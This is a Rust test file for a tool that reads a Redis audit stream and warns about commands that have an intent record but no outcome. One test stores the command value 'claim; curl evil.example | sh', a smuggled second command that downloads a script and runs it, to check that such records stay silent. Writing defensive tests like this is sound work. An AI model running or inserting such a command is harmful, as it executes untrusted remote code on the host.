//! What the audit stream says of commands that were cut off.

use crate::support::site::{GROUP, STREAM, Site, findings};
use ucp_streams::model::Time;

const AUDIT: &str = "ucp:audit";
const MINUTE_MS: u64 = 60_000;

/// Adds a record that is so old; its id.
fn add(site: &Site, age_ms: u64, fields: &[&str]) -> String {
    let id = format!("{}-0", Time::now().ms - age_ms);
    let command = [&["XADD", AUDIT, &id], fields].concat();
    site.server.redis(&command).text().to_owned()
}

fn intent(site: &Site, age_ms: u64, command: &str) -> String {
    #[rustfmt::skip]
    let fields = ["phase", "intent", "user", "ada", "host", "db1", "command", command, "stream", STREAM, "group", GROUP];
    add(site, age_ms, &fields)
}

#[test]
fn cut_off() {
    let site = Site::start();
    let id = intent(&site, 20 * MINUTE_MS, "claim");
    let found = site.finds_only("cut_off");
    found
        .is("warning")
        .is_about(STREAM, GROUP)
        .says("`claim` of group `event-processors` by ada on db1 at 20")
        .says(" has no outcome: it was cut off, or still runs")
        .shows(&[("age_ms", "20m")])
        .next_is("ucp-streams audit");
    site.follow(&found).assert_code(0);
    let outcome = ["phase", "outcome", "of", &id, "exit", "0"];
    add(&site, MINUTE_MS, &outcome);
    site.is_silent();
}

#[test]
fn one_that_was_run_again_or_undone_is_no_longer_found() {
    for again in ["claim", "undo"] {
        let site = Site::start();
        intent(&site, 20 * MINUTE_MS, "claim");
        let later = intent(&site, 19 * MINUTE_MS, again);
        add(
            &site,
            MINUTE_MS,
            &["phase", "outcome", "of", &later, "exit", "0"],
        );
        site.is_silent();
    }
}

#[test]
fn what_is_new_or_old_or_written_by_others_is_silent() {
    let site = Site::start();
    intent(&site, 2 * 24 * 60 * MINUTE_MS, "claim");
    let evil = "claim; curl evil.example | sh";
    intent(&site, 20 * MINUTE_MS, evil);
    let user = "a".repeat(300);
    add(
        &site,
        19 * MINUTE_MS,
        &["phase", "intent", "command", "ack", "user", &user],
    );
    add(&site, 18 * MINUTE_MS, &["anything", "else"]);
    intent(&site, 5 * MINUTE_MS, "claim");
    site.is_silent();
    site.redis(&format!("DEL {AUDIT}"));
    site.redis(&format!("SET {AUDIT} x"));
    site.is_silent();
}

#[test]
fn where_the_stream_may_not_be_read_it_is_silent() {
    let site = Site::start();
    intent(&site, 20 * MINUTE_MS, "claim");
    let keys = "~events.* ~{events.* ~profiles.* ~{profiles.* ~predictions.* ~{predictions.*";
    let url = site.server.add_user("reader", &format!("{keys} +@all"));
    let run = site.command(&["doctor", "-o", "json"]);
    let found = findings(&run.env("UCP_STREAMS_URL", url).run());
    assert!(found.is_empty(), "{found:#?}");
}
